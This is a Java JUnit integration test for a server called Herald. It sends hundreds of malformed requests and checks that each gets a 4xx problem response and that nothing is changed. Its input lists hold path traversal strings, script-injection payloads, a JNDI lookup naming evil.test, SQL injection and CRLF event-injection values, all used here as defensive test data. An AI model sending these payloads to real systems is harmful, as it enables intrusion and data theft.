package dev.herald.security;

import dev.herald.testing.Api;
import dev.herald.testing.RawStream;
import dev.herald.testing.SharedNode;
import dev.herald.testing.SseEvent;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.InputStreamReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hundreds of bad requests generated from the contract: malformed JSON, wrong
 * types, huge and empty values, control characters, invalid UTF-8, path traversal,
 * script payloads, bogus resume ids, thousands of topics. Every answer is a 4xx
 * problem JSON (a bad resume id: a stream that starts with {@code event: reset}),
 * never a 5xx, and afterwards nothing has changed.
 */
@ExtendWith(SharedNode.class)
class BadInputIT {
    private static final String TOPIC = "custom/badinput";
    /** A signed-in user whose notifications show whether anything was sent during the suite. */
    private static final java.util.function.Supplier<String> WATCHER = memo(() -> Api.signIn("badinput-watcher"));

    private static <T> java.util.function.Supplier<T> memo(java.util.function.Supplier<T> s) {
        var box = new java.util.concurrent.atomic.AtomicReference<T>();
        return () -> box.updateAndGet(v -> v != null ? v : s.get());
    }

    private static int watcherNotifications() {
        var r = Api.get("/api/notifications", Map.of("Authorization", "Bearer " + WATCHER.get()));
        return Api.json(r.body()).getJsonArray("notifications").size();
    }

    /**
     * PROBLEM: 4xx problem JSON from Herald. RESET: a stream opening with {@code event: reset}.
     * REFUSED: 4xx from Liberty's HTTP layer, which refuses some requests (an oversized request
     * line, encoded dot segments) before any application code runs, with its own body.
     */
    enum Expect { PROBLEM, RESET, REFUSED }

    record Case(String name, String method, String path, Map<String, String> headers, byte[] body, Expect expect) {
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String q(String s) {
        var sb = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') sb.append('\\').append(c);
            else if (c < 0x20) sb.append(String.format("\\u%04x", (int) c));
            else sb.append(c);
        }
        return sb.append('"').toString();
    }

    private static final List<String> MALFORMED = List.of(
            "{", "}", "[]", "null", "1", "\"text\"", "true", "{\"topic\":}", "{'topic':'custom/x'}", "{\"a\":1,}",
            "{} trailing", "{\"topic\" \"x\"}", "{\"topic\":\"x\"", "\u0000", "{\"a\":NaN}", "{\"a\":01}", "{\"a\":\"\\x41\"}",
            "{\"a\":\"\\ud800\"", "[" .repeat(5000), "{\"a\":" .repeat(3000), "   ", "\n", "{\"a\":1}{\"b\":2}", "<xml/>", "%7B%7D");

    private static final List<String> BAD_TEXT = List.of(
            "1", "1.5", "-1", "true", "false", "[]", "[\"custom/x\"]", "{}", "{\"a\":1}", "\"\"", "\"   \"",
            q("a".repeat(10_000)), q("custom/" + "a".repeat(300)), q("\u0000"), q("a\u0007b"), q("a\nb"),
            q("custom/x\r\nevent: evil\r\ndata: {}"), q("custom/x\n\nid: 1"), q("a\u2028b"), q("\u202Eevil"),
            q("/etc/passwd"), q("../../etc/passwd"), q("custom/..\\..\\windows"), q("custom/%2e%2e/x"), q("chat/../custom/x"),
            q("<script>alert(1)</script>"), q("custom/<img src=x onerror=alert(1)>"), q("javascript:alert(1)"),
            q("custom/ünïcode"), q("custom/\uD83D\uDE00"), q("custom/a b"), q("custom/"),
            q("${jndi:ldap://evil.test/a}"), q("' OR '1'='1"));

    private static final List<byte[]> BAD_UTF8 = List.of(
            new byte[]{(byte) 0xC3, 0x28}, new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[]{(byte) 0xC0, (byte) 0xAF}, new byte[]{(byte) 0xE2, (byte) 0x82}, new byte[]{(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});

    private static byte[] withBytes(String before, byte[] bad, String after) {
        var out = new ByteArrayOutputStream();
        out.writeBytes(utf8(before));
        out.writeBytes(bad);
        out.writeBytes(utf8(after));
        return out.toByteArray();
    }

    static List<Case> cases() {
        var cases = new ArrayList<Case>();
        Map<String, String> publisher = Map.of("Content-Type", "application/json", "Authorization", "Bearer " + Api.PUBLISHER_TOKEN);
        Map<String, String> anonymous = Map.of("Content-Type", "application/json");

        // POST /api/publish and POST /api/session: bodies that are not one JSON object.
        for (String body : MALFORMED) {
            cases.add(new Case("publish malformed " + body, "POST", "/api/publish", publisher, utf8(body), Expect.PROBLEM));
            cases.add(new Case("sign-in malformed " + body, "POST", "/api/session", anonymous, utf8(body), Expect.PROBLEM));
        }
        cases.add(new Case("publish empty body", "POST", "/api/publish", publisher, new byte[0], Expect.PROBLEM));
        cases.add(new Case("sign-in empty body", "POST", "/api/session", anonymous, new byte[0], Expect.PROBLEM));

        // Every field with every bad value.
        for (String bad : BAD_TEXT) {
            cases.add(new Case("publish topic=" + bad, "POST", "/api/publish", publisher,
                    utf8("{\"topic\":" + bad + ",\"type\":\"probe\",\"data\":{}}"), Expect.PROBLEM));
            cases.add(new Case("publish type=" + bad, "POST", "/api/publish", publisher,
                    utf8("{\"topic\":\"" + TOPIC + "\",\"type\":" + bad + ",\"data\":{}}"), Expect.PROBLEM));
        }
        for (String bad : List.of("1", "true", "[]", "{}", "null", "\"\"", "\"   \"", q("a".repeat(41)), q("a".repeat(10_000)),
                q("\u0000"), q("a\nb"), q("a\tb"), q("\u001b[31mred"), q("a\r\nevent: evil"), q("\u0085next"))) {
            cases.add(new Case("sign-in username=" + bad, "POST", "/api/session", anonymous, utf8("{\"username\":" + bad + "}"), Expect.PROBLEM));
        }
        // Missing and unknown fields.
        cases.add(new Case("publish without topic", "POST", "/api/publish", publisher, utf8("{\"type\":\"probe\",\"data\":{}}"), Expect.PROBLEM));
        cases.add(new Case("publish without type", "POST", "/api/publish", publisher, utf8("{\"topic\":\"" + TOPIC + "\",\"data\":{}}"), Expect.PROBLEM));
        cases.add(new Case("sign-in without username", "POST", "/api/session", anonymous, utf8("{}"), Expect.PROBLEM));
        for (String field : List.of("extra", "__proto__", "constructor", "", "TOPIC", "id", "timestamp", "userId")) {
            cases.add(new Case("publish unknown field " + field, "POST", "/api/publish", publisher,
                    utf8("{\"topic\":\"" + TOPIC + "\",\"type\":\"probe\",\"data\":{}," + q(field) + ":1}"), Expect.PROBLEM));
            cases.add(new Case("sign-in unknown field " + field, "POST", "/api/session", anonymous,
                    utf8("{\"username\":\"field-probe\"," + q(field) + ":true}"), Expect.PROBLEM));
        }
        // Invalid UTF-8 in every position.
        for (byte[] bad : BAD_UTF8) {
            cases.add(new Case("publish bad UTF-8 in topic", "POST", "/api/publish", publisher,
                    withBytes("{\"topic\":\"custom/", bad, "\",\"type\":\"probe\",\"data\":{}}"), Expect.PROBLEM));
            cases.add(new Case("publish bad UTF-8 in data", "POST", "/api/publish", publisher,
                    withBytes("{\"topic\":\"" + TOPIC + "\",\"type\":\"probe\",\"data\":{\"t\":\"", bad, "\"}}"), Expect.PROBLEM));
            cases.add(new Case("sign-in bad UTF-8", "POST", "/api/session", anonymous, withBytes("{\"username\":\"a", bad, "\"}"), Expect.PROBLEM));
        }
        // Size and media type.
        String huge = "{\"topic\":\"" + TOPIC + "\",\"type\":\"probe\",\"data\":{\"t\":\"" + "x".repeat(70_000) + "\"}}";
        cases.add(new Case("publish over 64 KiB", "POST", "/api/publish", publisher, utf8(huge), Expect.PROBLEM));
        cases.add(new Case("sign-in over 64 KiB", "POST", "/api/session", anonymous, utf8("{\"username\":\"" + "x".repeat(70_000) + "\"}"), Expect.PROBLEM));
        cases.add(new Case("publish deeply nested data", "POST", "/api/publish", publisher,
                utf8("{\"topic\":\"" + TOPIC + "\",\"type\":\"probe\",\"data\":" + "[".repeat(20_000) + "]".repeat(20_000) + "}"), Expect.PROBLEM));
        for (String type : List.of("text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded")) {
            cases.add(new Case("publish as " + type, "POST", "/api/publish", Map.of("Content-Type", type, "Authorization", "Bearer " + Api.PUBLISHER_TOKEN),
                    utf8("{\"topic\":\"" + TOPIC + "\",\"type\":\"probe\",\"data\":{}}"), Expect.PROBLEM));
            cases.add(new Case("sign-in as " + type, "POST", "/api/session", Map.of("Content-Type", type), utf8("{\"username\":\"media-probe\"}"), Expect.PROBLEM));
        }
        // Credentials that are not: none of these may publish or disconnect.
        for (String token : List.of("", "x", "Bearer", "a.b.c", "x".repeat(5000), "dev-publisher-tokeN", "null")) {
            cases.add(new Case("publish with token '" + token + "'", "POST", "/api/publish",
                    Map.of("Content-Type", "application/json", "Authorization", "Bearer " + token),
                    utf8("{\"topic\":\"" + TOPIC + "\",\"type\":\"probe\",\"data\":{}}"), Expect.PROBLEM));
            cases.add(new Case("disconnect with token '" + token + "'", "POST", "/api/admin/disconnect",
                    Map.of("Authorization", "Bearer " + token), null, Expect.PROBLEM));
        }

        // POST /api/notifications: every field with bad values, and ids off their grammar.
        String good = "\"title\":\"t\",\"message\":\"m\",\"type\":\"info\"";
        for (String field : List.of("title", "message", "type", "userId", "actionUrl", "actionLabel")) {
            for (String bad : List.of("1", "[]", "{}", "\"\"", q("x".repeat(5000)), q("a\u0000b"), q("javascript:alert(1)"))) {
                // A script URL is bad only where a URL or a type is expected; elsewhere it is text.
                if (bad.startsWith("\"javascript") && !field.equals("actionUrl") && !field.equals("type")) continue;
                var fields = new java.util.LinkedHashMap<String, String>(Map.of("title", "\"t\"", "message", "\"m\"", "type", "\"info\""));
                if (field.equals("actionLabel")) fields.put("actionUrl", "\"/x\"");
                fields.put(field, bad);
                var body = new StringBuilder("{");
                fields.forEach((k, v) -> body.append(body.length() > 1 ? "," : "").append(q(k)).append(':').append(v));
                body.append('}');
                cases.add(new Case("notify " + field + "=" + bad, "POST", "/api/notifications", publisher, utf8(body.toString()), Expect.PROBLEM));
            }
        }
        for (String bad : List.of("true", "\"5000\"", "1.5", "-1", "0", "99999999", "1e3")) {
            cases.add(new Case("notify duration=" + bad, "POST", "/api/notifications", publisher, utf8("{" + good + ",\"duration\":" + bad + "}"), Expect.PROBLEM));
        }
        cases.add(new Case("notify autoRemove=\"yes\"", "POST", "/api/notifications", publisher, utf8("{" + good + ",\"autoRemove\":\"yes\"}"), Expect.PROBLEM));
        cases.add(new Case("notify label without url", "POST", "/api/notifications", publisher, utf8("{" + good + ",\"actionLabel\":\"go\"}"), Expect.PROBLEM));
        cases.add(new Case("notify unknown field", "POST", "/api/notifications", publisher, utf8("{" + good + ",\"html\":\"<b>\"}"), Expect.PROBLEM));
        Map<String, String> watcher = Map.of("Authorization", "Bearer " + WATCHER.get());
        for (String id : List.of("..%2F..%2Fetc%2Fpasswd", "%00", "x".repeat(300), "%3Cscript%3E", "-1", "n-does-not-exist", "..", "%2e%2e")) {
            // Encoded slashes, dots and NUL in a path are refused by Liberty before the application.
            Expect expect = id.contains("%2F") || id.contains("%2e") || id.equals("%00") ? Expect.REFUSED : Expect.PROBLEM;
            cases.add(new Case("read notification " + id, "POST", "/api/notifications/" + id + "/read", watcher, null, expect));
            cases.add(new Case("remove notification " + id, "DELETE", "/api/notifications/" + id, watcher, null, expect));
        }
        for (String q : List.of("unread=maybe", "limit=-1", "limit=0", "limit=100000", "limit=abc")) {
            cases.add(new Case("list notifications ?" + q, "GET", "/api/notifications?" + q, watcher, null, Expect.PROBLEM));
        }

        // GET /api/events: topics and options.
        List<String> badTopics = new ArrayList<>(List.of("", " ", "custom/", "custom", "nowhere", "a".repeat(300), "custom/" + "a".repeat(201),
                "custom/<script>", "../../etc/passwd", "custom/%00", "custom/a b", "custom/ü", "custom/a\nb", "chat", "/metrics",
                "metrics/../custom/x", "custom/x\r\nevent: evil", "METRICS"));
        for (String topic : badTopics) {
            cases.add(new Case("stream topic=" + topic, "GET", "/api/events?topic=" + URLEncoder.encode(topic, StandardCharsets.UTF_8), Map.of(), null, Expect.PROBLEM));
        }
        cases.add(new Case("stream without topic", "GET", "/api/events", Map.of(), null, Expect.PROBLEM));
        for (int n : new int[]{65, 500, 1000, 5000}) {
            var sb = new StringBuilder("/api/events?");
            for (int i = 0; i < n; i++) sb.append(i == 0 ? "" : "&").append("topic=custom/t").append(i);
            cases.add(new Case("stream with " + n + " topics", "GET", sb.toString(), Map.of(), null, n > 1000 ? Expect.REFUSED : Expect.PROBLEM));
        }
        for (String hb : List.of("", "bogus", "EVENT", "<script>", "event\n")) {
            cases.add(new Case("stream heartbeat=" + hb, "GET", "/api/events?topic=metrics&heartbeat=" + URLEncoder.encode(hb, StandardCharsets.UTF_8),
                    Map.of(), null, Expect.PROBLEM));
        }
        // Bogus resume ids: never an error, never a crash, always a reset.
        for (String id : List.of("garbage", "0", "-1", "::::", "x".repeat(4000), "<script>alert(1)</script>", "1e999",
                "99999999999999999999:99999999999999999999-99", "mx09kbjkjr:1-0", "mx09kbjkjr:-5--5", "%00", "../../etc/passwd")) {
            cases.add(new Case("Last-Event-ID " + id, "GET", "/api/events?topic=" + TOPIC, Map.of("Last-Event-ID", id), null, Expect.RESET));
            cases.add(new Case("?lastEventId=" + id, "GET", "/api/events?topic=" + TOPIC + "&lastEventId=" + URLEncoder.encode(id, StandardCharsets.UTF_8),
                    Map.of(), null, Expect.RESET));
        }
        cases.add(new Case("?lastEventId= non-ASCII", "GET", "/api/events?topic=" + TOPIC + "&lastEventId=" + URLEncoder.encode("ünï\u0000", StandardCharsets.UTF_8),
                Map.of(), null, Expect.RESET));

        // Paths and methods off the map.
        cases.add(new Case("path with encoded dot segments", "POST", "/api/%2e%2e/admin/disconnect", anonymous, utf8("{}"), Expect.REFUSED));
        for (String path : List.of("/api/publish/../admin/disconnect", "/api/events/x", "/api/session/../publish",
                "/api/admin", "/api/admin/disconnect/now", "/api/publish;jsessionid=x")) {
            cases.add(new Case("path " + path, "POST", path, anonymous, utf8("{}"), Expect.PROBLEM));
        }
        for (String method : List.of("PUT", "PATCH", "DELETE")) {
            cases.add(new Case(method + " /api/publish", method, "/api/publish", publisher, utf8("{}"), Expect.PROBLEM));
        }
        return cases;
    }

    @Test
    void everyBadRequestGetsA4xxProblemAndNothingChanges() throws Exception {
        List<Case> cases = cases();
        assertTrue(cases.size() >= 200, "only " + cases.size() + " cases");
        double resetsBefore = Api.metric("herald_resets_total", null);
        int notificationsBefore = watcherNotifications();

        var failures = new ArrayList<String>();
        try (var watch = RawStream.open("/api/events?topic=events&topic=" + TOPIC)) {
            watch.next(Duration.ofSeconds(5)); // the opening
            for (Case c : cases) {
                String problem = switch (c.expect()) {
                    case RESET -> checkReset(c);
                    case PROBLEM -> checkProblem(c);
                    case REFUSED -> checkRefused(c);
                };
                if (problem != null) failures.add(c.name().substring(0, Math.min(90, c.name().length())) + ": " + problem);
            }
            // Nothing was published or signed in: the first event now is the marker.
            String marker = Api.publish(TOPIC, "marker", "{}");
            SseEvent first = watch.await(e -> e.id() != null, Duration.ofSeconds(10));
            assertEquals(marker, first.id(), "an event reached the topics during the bad-input suite: " + first);
        }
        assertTrue(failures.isEmpty(), failures.size() + " of " + cases.size() + " cases failed:\n" + String.join("\n", failures));
        assertEquals(notificationsBefore, watcherNotifications(), "a notification was sent during the bad-input suite");
        long resetCases = cases.stream().filter(c -> c.expect() == Expect.RESET).count();
        assertEquals(resetsBefore + resetCases, Api.metric("herald_resets_total", null), "every bogus id was answered with one reset");
    }

    private static String checkProblem(Case c) {
        var headers = new HashMap<>(c.headers());
        var r = Http.send(Api.uri(c.path()), c.method(), c.body(), headers);
        int s = r.statusCode();
        if (s < 400 || s >= 500) return "status " + s + " " + r.body().substring(0, Math.min(200, r.body().length()));
        String type = r.headers().firstValue("Content-Type").orElse("");
        if (!type.startsWith("application/problem+json")) return s + " without problem JSON (" + type + "): " + r.body().substring(0, Math.min(120, r.body().length()));
        var json = Api.json(r.body());
        if (json.getInt("status") != s || !json.containsKey("title") || !json.containsKey("detail")) return "incomplete problem " + r.body();
        return null;
    }

    private static String checkRefused(Case c) {
        int s = Http.send(Api.uri(c.path()), c.method(), c.body(), c.headers()).statusCode();
        return s >= 400 && s < 500 ? null : "status " + s;
    }

    private static String checkReset(Case c) throws Exception {
        var stream = Http.stream(Api.uri(c.path()), c.headers());
        try {
            if (stream.statusCode() != 200) return "status " + stream.statusCode() + " " + Http.bodyOf(stream);
            var in = new BufferedReader(new InputStreamReader(stream.body(), StandardCharsets.UTF_8));
            long deadline = System.nanoTime() + 5_000_000_000L;
            for (String line = in.readLine(); line != null && System.nanoTime() < deadline; line = in.readLine()) {
                if (line.equals("event: reset")) return null;
                if (line.startsWith("id:")) return "an event instead of a reset: " + line;
            }
            return "no reset";
        } finally {
            Http.close(stream);
        }
    }
}
